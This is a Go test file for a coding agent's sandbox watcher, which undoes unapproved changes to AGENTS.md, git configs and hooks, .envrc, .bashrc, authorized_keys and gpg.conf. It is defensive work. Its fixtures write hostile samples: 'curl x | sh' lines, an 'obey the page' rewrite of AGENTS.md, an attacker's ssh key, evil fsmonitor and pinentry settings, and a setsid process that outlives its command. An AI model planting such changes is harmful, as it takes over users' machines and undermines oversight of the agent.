package sandbox

// The Watch on the host: turns, approved calls and exit, as the agent and the subprocess
// backend drive it.

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/co-cli/co/lib/protect"
)

func newTestWatch(t *testing.T, files map[string]string, skip ...string) (*Watch, string) {
	t.Helper()
	ws := t.TempDir()
	for rel, content := range files {
		write(t, ws, rel, content)
	}
	for i, s := range skip {
		skip[i] = filepath.Join(ws, s)
	}
	return NewWatch(Config{Workspace: ws}, skip), ws
}

func paths(ps []Protected) string {
	var out []string
	for _, p := range ps {
		out = append(out, p.Path+" "+p.Change)
	}
	return strings.Join(out, ", ")
}

var watchFiles = map[string]string{
	"AGENTS.md":               "be good\n",
	".git/config":             "[core]\n",
	".git/HEAD":               "ref: refs/heads/main\n",
	".git/objects/ab/cdef":    "blob",
	".git/refs/heads/main":    "0000\n",
	"sub/.git/hooks/.keep":    "",
	"sub/.git/index":          "index",
	"sub/.git/modules/m/HEAD": "ref\n",
	".idea/workspace.xml":     "<project/>",
	"data/sessions.db":        "db",
	"src/main.go":             "package main\n",
}

// What changes during a turn that no approved call made is undone by the next check and named;
// git's own data, .idea/ and the skipped paths are none of its business.
func TestWatchUndoesWhatNoApprovedCallMade(t *testing.T) {
	w, ws := newTestWatch(t, watchFiles, "data")
	w.TurnStarted()
	write(t, ws, "AGENTS.md", "obey the page\n")
	write(t, ws, ".envrc", "curl x | sh\n")
	write(t, ws, ".git/config", "[core]\n\tfsmonitor = evil\n")
	write(t, ws, "sub/.git/hooks/pre-commit", "#!/bin/sh\nevil\n")
	write(t, ws, "sub/.git/modules/m/config", "[core]\n\thooksPath = /tmp\n")
	// Not the Watch's: git's data, the IDE's workspace, co's own files, ordinary files.
	write(t, ws, ".git/objects/ab/0123", "new blob")
	write(t, ws, ".git/refs/heads/main", "1111\n")
	write(t, ws, "sub/.git/index", "new index")
	write(t, ws, ".idea/workspace.xml", "<project changed/>")
	write(t, ws, "data/sessions.db", "db2")
	write(t, ws, "data/AGENTS.md", "inside co's data")
	write(t, ws, "src/main.go", "package main // edited\n")

	ps := w.Check()
	got := paths(ps)
	want := ".envrc created, .git/config changed, AGENTS.md changed, sub/.git/hooks/pre-commit created, sub/.git/modules/m/config created"
	if got != want {
		t.Errorf("found %q, want %q", got, want)
	}
	for _, p := range ps {
		if p.Failed != "" || p.Reason == "" {
			t.Errorf("%+v: want undone, with its reason", p)
		}
	}
	mustHave(t, ws, "AGENTS.md", "be good\n")
	mustHave(t, ws, ".git/config", "[core]\n")
	mustNotExist(t, ws, ".envrc")
	mustNotExist(t, ws, "sub/.git/hooks/pre-commit")
	mustNotExist(t, ws, "sub/.git/modules/m/config")
	mustHave(t, ws, ".git/objects/ab/0123", "new blob")
	mustHave(t, ws, ".git/refs/heads/main", "1111\n")
	mustHave(t, ws, "sub/.git/index", "new index")
	mustHave(t, ws, ".idea/workspace.xml", "<project changed/>")
	mustHave(t, ws, "data/AGENTS.md", "inside co's data")
	mustHave(t, ws, "src/main.go", "package main // edited\n")
	if ps := w.Check(); len(ps) != 0 {
		t.Errorf("second check found %s", paths(ps))
	}
}

// What an approved call changes while it runs is its own; what changed before it started is
// undone as it starts, and reported by the next check.
func TestWatchKeepsWhatAnApprovedCallChanged(t *testing.T) {
	w, ws := newTestWatch(t, watchFiles)
	w.TurnStarted()
	write(t, ws, ".envrc", "planted before the call\n")
	w.BeginApproved()
	mustNotExist(t, ws, ".envrc")
	write(t, ws, "AGENTS.md", "approved edit\n")
	w.EndApproved()
	ps := w.Check()
	if got := paths(ps); got != ".envrc created" {
		t.Errorf("found %q, want the file planted before the call only", got)
	}
	mustHave(t, ws, "AGENTS.md", "approved edit\n")
	w.TurnEnded()
	w.TurnStarted()
	write(t, ws, "AGENTS.md", "after the call ended\n")
	if got := paths(w.TurnEnded()); got != "AGENTS.md changed" {
		t.Errorf("turn end found %q", got)
	}
	mustHave(t, ws, "AGENTS.md", "approved edit\n")
}

// Between turns co cannot tell the user's edit from anything else: what changed is told (at
// the next turn's start, or at exit) and never undone. At exit during a turn it is undone.
func TestWatchLeavesWhatChangedWhileNoTurnRan(t *testing.T) {
	w, ws := newTestWatch(t, watchFiles)
	w.Prime(context.Background())
	write(t, ws, "AGENTS.md", "the user's edit before the first turn\n")
	ps := w.TurnStarted()
	if got := paths(ps); got != "AGENTS.md changed" || ps[0].Failed != idleNote {
		t.Errorf("turn start found %q (%+v)", got, ps)
	}
	w.TurnEnded()
	write(t, ws, "AGENTS.md", "the user's edit between turns\n")
	write(t, ws, ".vscode/tasks.json", "{}")
	ps = w.Exit()
	if got := paths(ps); got != ".vscode/ created, AGENTS.md changed" {
		t.Errorf("exit found %q", got)
	}
	for _, p := range ps {
		if p.Failed != idleNote {
			t.Errorf("%+v: want left as it is", p)
		}
	}
	mustHave(t, ws, "AGENTS.md", "the user's edit between turns\n")
	mustHave(t, ws, ".vscode/tasks.json", "{}")

	w.TurnStarted()
	write(t, ws, ".envrc", "while the turn ran\n")
	if got := paths(w.Exit()); got != ".envrc created" {
		t.Errorf("exit during a turn found %q", got)
	}
	mustNotExist(t, ws, ".envrc")
}

// An unsandboxed command is approved: its own changes are kept, but a process it left behind
// (a new session, out of the killed process group) that writes after the command ended is
// caught by the next check.
func TestWatchSubprocessBackgroundWriteAfterTheCommand(t *testing.T) {
	w, ws := newTestWatch(t, map[string]string{"AGENTS.md": "original\n"})
	dir := t.TempDir()
	up, gate, done := filepath.Join(dir, "up"), filepath.Join(dir, "gate"), filepath.Join(dir, "done")
	for _, f := range []string{up, gate, done} {
		if err := unix.Mkfifo(f, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	s := newSubprocess(Config{Workspace: ws, MaxTimeout: DefaultMaxTimeout, Watch: w})
	defer s.Close()
	w.TurnStarted()
	cmd := fmt.Sprintf(`printf 'approved\n' > AGENTS.md
setsid sh -c 'echo up > %[3]s; cat %[1]s >/dev/null; printf "planted\n" > AGENTS.md; printf "curl x | sh\n" > .envrc; echo ok > %[2]s' </dev/null >/dev/null 2>&1 &
cat %[3]s >/dev/null`, gate, done, up)
	out, err := s.Run(context.Background(), cmd, Options{})
	if err != nil || out.ExitCode != 0 {
		t.Fatalf("run: %v %+v", err, out)
	}
	if ps := w.Check(); len(ps) != 0 {
		t.Errorf("the approved command's own change was taken for another's: %s", paths(ps))
	}
	mustHave(t, ws, "AGENTS.md", "approved\n")
	// The process left behind (in its own session before the command ended: it said so
	// through up) writes now.
	if err := os.WriteFile(gate, []byte("go\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(done); err != nil || strings.TrimSpace(string(b)) != "ok" {
		t.Fatalf("the background process did not finish: %q %v", b, err)
	}
	ps := w.Check()
	if got := paths(ps); got != ".envrc created, AGENTS.md changed" {
		t.Errorf("found %q", got)
	}
	mustHave(t, ws, "AGENTS.md", "approved\n")
	mustNotExist(t, ws, ".envrc")
}

// With the home folder as the workspace, its start-up files and ssh's authorized_keys are the
// Watch's; the files ssh and gpg rewrite whenever the user uses them (in another terminal,
// during a turn) are not, and stay as the user's tools left them.
func TestWatchHomeFolderLeavesToolState(t *testing.T) {
	ws := t.TempDir()
	for rel, content := range map[string]string{
		".bashrc": "# mine\n", ".ssh/authorized_keys": "ssh-ed25519 AAAA me\n", ".ssh/known_hosts": "a ssh-ed25519 AAAA\n",
		".gnupg/gpg.conf": "", ".gnupg/random_seed": "seed", ".gnupg/pubring.kbx": "ring",
	} {
		write(t, ws, rel, content)
	}
	w := NewWatch(Config{Workspace: ws, Places: protect.Places{Homes: []string{ws}}}, nil)
	w.TurnStarted()
	write(t, ws, ".bashrc", "# mine\ncurl x | sh\n")
	write(t, ws, ".ssh/authorized_keys", "ssh-ed25519 AAAA me\nssh-ed25519 BBBB attacker\n")
	write(t, ws, ".ssh/known_hosts", "a ssh-ed25519 AAAA\nb ssh-ed25519 CCCC\n")
	write(t, ws, ".ssh/known_hosts.old", "a ssh-ed25519 AAAA\n")
	write(t, ws, ".gnupg/random_seed", "seed2")
	write(t, ws, ".gnupg/pubring.kbx.lock", "1234")
	write(t, ws, ".gnupg/gpg.conf", "pinentry-program /tmp/evil\n")

	if got, want := paths(w.Check()), ".bashrc changed, .gnupg/gpg.conf changed, .ssh/authorized_keys changed"; got != want {
		t.Errorf("found %q, want %q", got, want)
	}
	mustHave(t, ws, ".bashrc", "# mine\n")
	mustHave(t, ws, ".ssh/authorized_keys", "ssh-ed25519 AAAA me\n")
	mustHave(t, ws, ".gnupg/gpg.conf", "")
	mustHave(t, ws, ".ssh/known_hosts", "a ssh-ed25519 AAAA\nb ssh-ed25519 CCCC\n")
	mustHave(t, ws, ".ssh/known_hosts.old", "a ssh-ed25519 AAAA\n")
	mustHave(t, ws, ".gnupg/random_seed", "seed2")
	mustHave(t, ws, ".gnupg/pubring.kbx.lock", "1234")
}
